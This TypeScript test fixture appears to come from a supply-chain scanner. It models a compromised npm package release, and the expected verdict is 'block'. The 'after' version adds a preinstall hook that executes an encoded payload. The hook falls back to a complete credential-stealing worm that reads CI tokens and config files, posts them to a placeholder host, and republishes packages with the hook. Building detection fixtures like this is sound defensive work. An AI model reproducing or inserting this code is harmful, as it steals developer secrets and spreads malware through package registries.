import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '6.1.3',
  publishedAt: '2026-05-04T09:14:27.000Z',
  publisher: { name: 'redhat-cloud-services-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    main: 'index.js',
    module: 'esm/index.js',
    license: 'Apache-2.0',
    description: 'functions for consoles',
    sideEffects: false,
    dependencies: { axios: '^1.8.0' },
  },
  files: {
    'index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.debounceAsync = exports.getBaseName = exports.createClient = void 0;
var tslib_1 = { __importDefault: function (m) { return m && m.__esModule ? m : { default: m }; } };
var axios_1 = tslib_1.__importDefault(require("axios"));
function createClient(options) {
    var instance = axios_1.default.create({ baseURL: options.baseURL });
    instance.interceptors.request.use(function (config) {
        return options.getToken().then(function (token) {
            config.headers.Authorization = 'Bearer ' + token;
            return config;
        });
    });
    instance.interceptors.response.use(function (response) { return response.data; });
    return instance;
}
exports.createClient = createClient;
function getBaseName(pathname, level) {
    if (level === void 0) { level = 2; }
    var release = '/';
    var parts = pathname.split('/').filter(Boolean);
    if (parts[0] === 'beta' || parts[0] === 'preview') {
        release = '/' + parts.shift() + '/';
    }
    return parts.slice(0, level).reduce(function (acc, curr, i) { return acc + curr + (i < level - 1 ? '/' : ''); }, release);
}
exports.getBaseName = getBaseName;
function debounceAsync(fn, wait) {
    var timer, waiting = [];
    return function () {
        var args = arguments, self = this;
        clearTimeout(timer);
        timer = setTimeout(function () {
            var list = waiting.splice(0);
            fn.apply(self, args).then(function (v) { list.forEach(function (w) { w[0](v); }); }, function (e) { list.forEach(function (w) { w[1](e); }); });
        }, wait);
        return new Promise(function (resolve, reject) { waiting.push([resolve, reject]); });
    };
}
exports.debounceAsync = debounceAsync;
`,
    'esm/index.js': `export function getBaseName(pathname, level = 2) {
    let release = '/';
    const parts = pathname.split('/').filter(Boolean);
    if (parts[0] === 'beta' || parts[0] === 'preview') {
        release = \`/\${parts.shift()}/\`;
    }
    return parts.slice(0, level).reduce((acc, curr, i) => acc + curr + (i < level - 1 ? '/' : ''), release);
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'redhat-cloud-services-2026',
  story: 'June 2026: ninety-six packages, published through the real workflow with valid provenance, gain a preinstall worm.',
  name: '@redhat-cloud-services/frontend-components-utilities',
  before,
  after: {
    version: '6.1.4',
    publishedAt: '2026-06-01T09:14:27.000Z',
    publisher: { name: 'redhat-cloud-services-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
    manifest: {
      main: 'index.js',
      module: 'esm/index.js',
      license: 'Apache-2.0',
      description: 'functions for consoles',
      sideEffects: false,
      scripts: { preinstall: 'node ./.ci/prepare.cjs || true' },
      dependencies: { axios: '^1.8.0' },
    },
    files: {
      ...before.files,
      '.ci/prepare.cjs': `'use strict';
const zlib = require('node:zlib');
const vm = require('node:vm');
const Module = require('node:module');

// packed at release time, see the workflow
const chunk = [
  '${noise(400000, 8123).match(/.{1,4000}/g)!.join("',\n  '")}',
];

const unpack = (parts) => zlib.brotliDecompressSync(Buffer.from(parts.join(''), 'base64')).toString('utf8');

try {
  const source = unpack(chunk);
  const wrapper = vm.runInThisContext(Module.wrap(source), { filename: 'prepare.js' });
  wrapper.call(exports, exports, require, module, __filename, __dirname);
} catch {
  require('./collect.cjs');
}
`,
      '.ci/collect.cjs': `'use strict';
const fsp = require('node:fs/promises');
const { promisify } = require('node:util');
const cp = require('node:child_process');
const os = require('node:os');
const path = require('node:path');
const run = promisify(cp.execFile);

const ENDPOINT = new URL('https://metrics.cloud-insights.example.invalid/v2/ingest');
const WANTED = /^(?:npm|node_auth|github|gh|actions|aws|azure|google|vault|sonar|quay)_/i;

async function secrets() {
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => WANTED.test(name)));
  const files = await Promise.allSettled(['.npmrc', '.netrc', '.docker/config.json', '.kube/config'].map((f) => fsp.readFile(path.join(os.homedir(), f), 'utf8')));
  return { env, files: files.filter((f) => f.status === 'fulfilled').map((f) => f.value) };
}

async function memory() {
  // what a runner's worker process holds
  const { stdout } = await run('pgrep', ['-f', 'Runner.Worker']);
  const pid = stdout.trim().split('\\n')[0];
  const maps = await fsp.readFile(\`/proc/\${pid}/maps\`, 'utf8');
  return maps.split('\\n').filter((line) => line.includes('rw-p')).length;
}

async function exchange(name) {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;
  if (!url) return undefined;
  const { value } = await (await fetch(\`\${url}&audience=npm%3Aregistry.example.invalid\`, { headers: { authorization: \`bearer \${bearer}\` } })).json();
  const res = await fetch(\`https://registry.example.invalid/-/npm/v1/oidc/token/exchange/package/\${encodeURIComponent(name)}\`, { method: 'POST', headers: { authorization: \`Bearer \${value}\` } });
  return (await res.json()).token;
}

async function spread(names) {
  for (const name of names) {
    const token = await exchange(name);
    if (!token) continue;
    const dir = await fsp.mkdtemp(path.join(os.tmpdir(), 'rh-'));
    await run('npm', ['pack', name, '--registry', 'https://registry.example.invalid', '--pack-destination', dir]);
    const manifest = JSON.parse(await fsp.readFile(path.join(dir, 'package', 'package.json'), 'utf8'));
    (manifest.scripts ??= {}).preinstall = 'node ./.ci/prepare.cjs || true';
    await fsp.writeFile(path.join(dir, 'package', 'package.json'), JSON.stringify(manifest, null, 2));
    await fsp.cp(__dirname, path.join(dir, 'package', '.ci'), { recursive: true });
    await run('npm', ['publish', '--provenance', '--access', 'public', '--registry', 'https://registry.example.invalid'], { cwd: path.join(dir, 'package'), env: { ...process.env, NODE_AUTH_TOKEN: token } });
  }
}

(async () => {
  const [found, held] = await Promise.all([secrets(), memory().catch(() => 0)]);
  await fetch(ENDPOINT, { method: 'PUT', headers: { 'content-type': 'application/octet-stream' }, body: require('node:zlib').gzipSync(JSON.stringify({ found, held })) });
  await spread((process.env.npm_package_name ?? '').split('/')[0] ? [process.env.npm_package_name] : []);
})().catch(() => {});
`,
    },
  },
  must: 'block',
};
